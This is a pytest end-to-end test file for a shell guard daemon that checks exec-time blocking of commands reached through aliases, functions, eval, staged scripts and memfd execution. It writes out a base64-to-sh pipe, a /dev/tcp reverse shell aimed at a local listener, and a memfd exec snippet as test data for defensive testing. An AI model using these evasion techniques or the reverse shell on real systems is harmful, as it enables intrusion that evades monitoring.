"""End to end: the daemon's exec guard and a real guarded shell in tmux (issue 10).

The real `attyguard daemon --ebpf-mode enforce|warn` on a socket in a tmp dir
(killed by the fixture), a real `attyguard` shell in tmux configured to use
it (it registers its process tree at start), and commands that Tier-1 would
refuse typed as one line, reached instead through paths the line never
shows: an alias, a function, a variable expanded on a later line, a sourced
file, a script file, `read x; eval "$x"`, a program started by a program,
and a program run from a memfd (no file for fanotify to see).
Each command's own harmless marker file proves whether it ran.

The shell judges the files a line (or an rc file, or a definition it
recorded) hands to a shell before bash runs it, so a script on disk would be
refused by the line, not at exec. Each path's script is therefore written
by the command itself (`cp X.txt X.sh; bash X.sh`): when the line is judged
there is no X.sh to read, and only the exec guard sees its text.

enforce: refused at exec (needs a permission rung — the kernel layer's
fanotify rung, `attyguard.kernel.layer`; these tests skip, saying so, only
while that module is not installed). warn: everything runs and the shell's
`⚠ N` rises (works on every rung, the audit rung included).
"""

from __future__ import annotations

import contextlib
import importlib.util
import os
import re
import socket
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.daemon_harness import RunningDaemon, remove_tmpdirs, short_tmpdir, wait_for
from tests.e2e.harness import Tmux, WaitTimeout

pytestmark = [pytest.mark.e2e,
              pytest.mark.skipif(os.geteuid() != 0, reason="the exec sensors need root")]

HAVE_LAYER = importlib.util.find_spec("attyguard.kernel.layer") is not None
needs_layer = pytest.mark.skipif(
    not HAVE_LAYER, reason="attyguard.kernel.layer (the fanotify/lsm rungs) is not installed: "
    "only the audit rung runs here, and it cannot deny")

# Tier-1 blocks it (encoded text decoded into a shell; it decodes to `hi`, a
# missing command). The sleep keeps the process alive long enough for the
# audit rung, which reads argv from /proc after the exec.
PAYLOAD = "echo aGk= | base64 -d | sh; sleep 1; touch {marker}"


def staged(home: Path, name: str, text: str) -> str:
    """A command that writes `name`.sh from `name`.txt and runs it: no file to judge before."""
    (home / f"{name}.txt").write_text(text + "\n")
    return f"cp {home}/{name}.txt {home}/{name}.sh; bash {home}/{name}.sh"


@dataclass(frozen=True)
class Way:
    name: str
    lines: tuple[str, ...]  # typed at the prompt, in order
    typed_input: str = ""  # typed into `read` once it asks (not a line: never classified)


def paths(home: Path) -> list[Way]:
    """Each way in; files and rc definitions are written by `prepare`."""
    m = lambda n: str(home / f"marker-{n}")  # noqa: E731
    return [
        Way("alias", ("runit-alias",)),
        Way("function", ("runit_function",)),
        Way("variable", (f"cmd='bash {home}/p-variable.sh'",
                          f"cp {home}/p-variable.txt {home}/p-variable.sh; $cmd")),
        Way("sourced", (f"source {home}/sourced.sh",)),
        Way("script", (f"cp {home}/p-script.txt {home}/p-script.sh; bash {home}/p-script.sh",)),
        Way("read-eval", ('read -p "input> " x; eval "$x"',),
              typed_input="bash -c '" + PAYLOAD.format(marker=m("read-eval")) + "'"),
        Way("program", (f"python3 {home}/prog.py",)),
    ]


def prepare(home: Path) -> None:
    def payload(name: str) -> str:
        return PAYLOAD.format(marker=home / f"marker-{name}")

    for name in ("variable", "script"):
        (home / f"p-{name}.txt").write_text(payload(name) + "\n")
    (home / "sourced.sh").write_text(staged(home, "p-sourced", payload("sourced")) + "\n")
    (home / "prog.py").write_text(
        "import subprocess\n"
        f"subprocess.run(['bash', '-c', {payload('program')!r}])\n")
    with (home / ".bashrc").open("a") as rc:
        rc.write(f"alias runit-alias='{staged(home, 'p-alias', payload('alias'))}'\n"
                 f"runit_function() {{ {staged(home, 'p-function', payload('function'))}; }}\n")


@dataclass
class Guarded:
    t: Tmux
    daemon: RunningDaemon
    home: Path

    def dump(self) -> str:
        return (f"--- screen ---\n{self.t.screen(history=True)}\n"
                f"--- daemon log ---\n{self.daemon.log()}\n{self.counters()}")

    def counters(self) -> str:
        """The exec guard's and the layer's counters (a dropped execve record shows here)."""
        try:
            exec_ = self.daemon.call("status")["exec"]
        except (OSError, ValueError, KeyError):
            return "--- no status ---"
        layer = exec_.get("layer") or {}
        keep = ("no_tracepoint_record", "deadline_misses", "decide_errors", "events_dropped",
                "denied", "judged")
        return (f"--- exec counters ---\n{exec_.get('counters')}\n"
                f"layer: { {k: layer.get(k) for k in keep} }")

    def wait(self, pattern: str | Callable[[str], bool], timeout: float = 15.0) -> str:
        try:
            return self.t.wait_for(pattern, timeout)
        except WaitTimeout as exc:
            raise WaitTimeout(f"{exc}\n--- daemon log ---\n{self.daemon.log()}\n"
                              f"{self.counters()}") from None

    def shell_pid(self) -> int:
        self.t.send_line("echo shell-pid=$PPID")
        match = re.search(r"^shell-pid=(\d+)$", self.wait(r"^shell-pid=\d+\n"), re.MULTILINE)
        assert match is not None
        return int(match.group(1))

    def prompt_after(self, marker: str) -> None:
        self.t.send_line(f"echo {marker}")
        self.wait(rf"^{marker}\n\[~\]\$ ?$")


@pytest.fixture
def guarded(shell: Callable[..., Tmux], ag_env: dict[str, str], ag_home: Path
            ) -> Iterator[Callable[..., Guarded]]:
    daemons: list[RunningDaemon] = []

    def make(mode: str) -> Guarded:
        prepare(ag_home)
        daemon = RunningDaemon(short_tmpdir(), ("--ebpf-mode", mode))
        daemons.append(daemon)
        daemon.start()
        wait_for(lambda: "exec guard: rung" in daemon.log(), 20, "the exec guard", daemon.log)
        config = Path(ag_env["ATTYGUARD_HOME"]) / "config" / "config.toml"
        config.parent.mkdir(parents=True, exist_ok=True)
        config.write_text(f'[guard]\ndaemon_socket_path = "{daemon.socket}"\n'
                          "daemon_timeout_ms = 2000\n")
        g = Guarded(shell(cols=200), daemon, ag_home)
        g.prompt_after("ready")  # the first line waits for the Guard: registered by now
        pid = g.shell_pid()
        wait_for(lambda: any(t["pid"] == pid for t in
                             daemon.call("status")["exec"]["guarded_trees"]),
                 10, "the shell's registration", daemon.log)
        wait_for(lambda: daemon.call("status")["subscribers"] >= 1, 15,
                 "the shell's subscription", daemon.log)
        return g

    try:
        yield make
    finally:
        for daemon in daemons:
            daemon.stop()
            print(f"--- daemon log ---\n{daemon.log()}")
        remove_tmpdirs()


def _run_path(g: Guarded, p: Way) -> None:
    for line in p.lines[:-1]:
        g.t.send_line(line)
        g.wait(r"\[~\]\$ ?$")
    g.t.send_line(p.lines[-1])
    if p.typed_input:
        g.wait(r"^input>$")  # `read` has the terminal: these keys are its input
        g.t.send_line(p.typed_input)


@needs_layer
def test_enforce_refuses_at_exec_whatever_the_path(guarded: Callable[..., Guarded]) -> None:
    g = guarded("enforce")
    rung = g.daemon.call("status")["exec"]["rung"]
    assert rung in ("fanotify", "lsm"), f"no permission rung in use: {rung}\n{g.dump()}"
    pid = g.shell_pid()
    for count, p in enumerate(paths(g.home), 1):
        _run_path(g, p)
        # one red line at the next prompt, naming the program
        try:
            g.t.wait_for(lambda screen, n=count: screen.count("REFUSED — ") == n
                         and re.search(r"^\[~\]\$ ?$", screen, re.MULTILINE) is not None,
                         timeout=20, history=True)
        except WaitTimeout as exc:
            raise WaitTimeout(f"{p.name}: {exc}\n{g.daemon.log()}\n{g.counters()}") from None
        assert re.search(r"REFUSED — \S+: ", g.t.screen(history=True)), g.dump()
        marker = g.home / f"marker-{p.name}"
        assert not marker.exists(), f"{p.name}: the refused command ran\n{g.dump()}"
        entries = {e["pid"]: e["level"] for e in g.daemon.call("threats")["entries"]}
        assert entries.get(pid) == "critical", f"{p.name}: {entries}\n{g.dump()}"
        assert g.daemon.call("clear", pid=pid)["cleared"], g.dump()  # next path, same shell
    events = g.daemon.call("events", limit=1000)["events"]
    blocked = [e for e in events if e["action"] == "block" and e["shell"] == pid]
    assert len(blocked) >= len(paths(g.home)), g.dump()


def test_warn_mode_runs_and_raises_the_warning_count(guarded: Callable[..., Guarded]) -> None:
    g = guarded("warn")
    pid = g.shell_pid()
    expected = 0
    for p in paths(g.home):
        _run_path(g, p)
        marker = g.home / f"marker-{p.name}"
        wait_for(marker.exists, 20, f"{p.name}: the command to run in warn mode", g.dump)
        expected += 1
        g.wait(rf"⚠ {expected} │", timeout=20)
    assert "REFUSED" not in g.t.screen(history=True), g.dump()
    levels = {e["pid"]: e["level"] for e in g.daemon.call("threats")["entries"]}
    assert levels.get(pid) != "critical", g.dump()
    g.t.send_keys("M-W")
    g.wait(rf"attyguard: {expected} warning\(s\):")
    assert "exec would be refused" in g.t.screen(history=True), g.dump()


def test_processes_outside_the_scope_are_untouched(guarded: Callable[..., Guarded],
                                                  tmp_path: Path) -> None:
    g = guarded("enforce" if HAVE_LAYER else "warn")
    marker = tmp_path / "outside"
    import subprocess

    done = subprocess.run(["bash", "-c", PAYLOAD.format(marker=marker)], capture_output=True,
                          timeout=30)
    assert done.returncode == 0 and marker.exists(), g.dump()
    # the shell's own tree is still judged meanwhile (the sensor runs)
    _run_path(g, paths(g.home)[4])
    wait_for(lambda: any(e["action"] in ("warn", "block") for e in
                         g.daemon.call("events", limit=1000)["events"]), 20, "a judgement",
             g.dump)
    outside = [e for e in g.daemon.call("events", limit=1000)["events"] if e["shell"] is None]
    assert outside == [], outside


@needs_layer
def test_a_reverse_shell_through_a_function_gets_no_shell(
        guarded: Callable[..., Guarded], ag_home: Path) -> None:
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    # the redirection is in a file the function writes and sources, so neither the
    # rc judge nor the line sees /dev/tcp: only the exec guard sees the socket fds
    (ag_home / "callhome.txt").write_text(f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1\n")
    with (ag_home / ".bashrc").open("a") as rc:
        rc.write(f"callhome() {{ cp {ag_home}/callhome.txt {ag_home}/callhome.sh; "
                 f". {ag_home}/callhome.sh; }}\n")
    g = guarded("enforce")
    conn: socket.socket | None = None
    try:
        g.t.send_line("callhome; echo after-callhome")
        listener.settimeout(10)
        with contextlib.suppress(TimeoutError):
            conn, _ = listener.accept()  # the redirection connects before the exec
        if conn is not None:
            conn.settimeout(0.2)
            got = b""
            with contextlib.suppress(OSError):  # reset: the process behind it is gone
                conn.sendall(b"echo SHELL-$((6*7))\n")
                deadline = time.monotonic() + 3
                while time.monotonic() < deadline and b"SHELL-42" not in got:
                    with contextlib.suppress(TimeoutError):
                        chunk = conn.recv(4096)
                        if not chunk:
                            break
                        got += chunk
            assert b"SHELL-42" not in got, f"the listener got a shell\n{g.dump()}"
        g.wait(r"REFUSED — bash: Shell with its input or output on a network socket")
        g.wait(r"^after-callhome$")
        events = g.daemon.call("events", limit=100)["events"]
        assert any(e["action"] == "block" and "exec.reverse-shell" in e["rules"]
                   for e in events), g.dump()
    finally:
        if conn is not None:
            conn.close()
        listener.close()


@needs_layer
def test_a_line_the_user_trusted_still_runs_its_execs(
        guarded: Callable[..., Guarded], attyguard_bin: Path, ag_env: dict[str, str],
        ag_home: Path) -> None:
    import subprocess

    line = staged(ag_home, "p-trusted", PAYLOAD.format(marker=ag_home / "marker-trusted"))
    done = subprocess.run([str(attyguard_bin), "trust", "add", "--", line], env=ag_env,
                          capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr
    g = guarded("enforce")
    g.t.send_line(line)
    wait_for((ag_home / "marker-trusted").exists, 20, "the trusted line's command", g.dump)
    g.prompt_after("trusted-done")
    assert "REFUSED" not in g.t.screen(history=True), g.dump()
    # the window closed with the next line: the same command, not trusted, is refused
    (ag_home / "marker-trusted").unlink()
    (ag_home / "p-trusted.sh").unlink()  # (else the line itself is refused, for the file)
    g.t.send_line(line + " ")
    g.wait(r"REFUSED — bash: ")
    assert not (ag_home / "marker-trusted").exists(), g.dump()


@needs_layer
def test_an_in_memory_executable_is_killed_and_refused(
        guarded: Callable[..., Guarded], ag_home: Path) -> None:
    """A program copied into a memfd and run from there (fanotify cannot see it): killed
    from BPF before its first instruction, REFUSED in the shell by its context rule."""
    marker = ag_home / "marker-memfd"
    (ag_home / "memfd.txt").write_text(
        "import os\n"
        "fd = os.memfd_create('helper', 0)\n"
        "os.write(fd, open('/bin/touch', 'rb').read())\n"
        f"os.execve(fd, ['touch', {str(marker)!r}], {{}})\n")
    g = guarded("enforce")
    # staged like the scripts: when the line is judged there is no memfd.py to read
    g.t.send_line(f"cp {ag_home}/memfd.txt {ag_home}/memfd.py; python3 {ag_home}/memfd.py;"
                  " echo status=$?")
    g.wait(r"^status=137$")
    g.wait(r"REFUSED — memfd:helper \(deleted\): Exec of an in-memory file")
    assert not marker.exists(), g.dump()
    events = g.daemon.call("events", limit=100)["events"]
    blocked = [e for e in events if "exec.in-memory-executable" in e["rules"]]
    assert blocked and blocked[0]["action"] == "block", g.dump()
    assert blocked[0]["argv"] == ["touch", str(marker)], g.dump()
